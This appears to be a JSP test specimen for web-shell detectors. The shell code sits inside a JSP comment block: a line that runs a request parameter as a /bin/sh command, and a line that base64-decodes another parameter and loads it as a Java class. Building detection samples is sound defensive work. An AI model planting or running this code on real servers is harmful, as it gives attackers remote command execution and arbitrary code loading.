<%--
  A specimen for detectors: it stands inside a comment, no engine of the lab runs
  JSPs, and it never executes.
  String cmd = request.getParameter("cmd");
  Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", cmd});
  byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("k"));
  Class c = new ClassLoader(){ Class g(byte[] x){ return defineClass(x,0,x.length); } }.g(b);
--%>
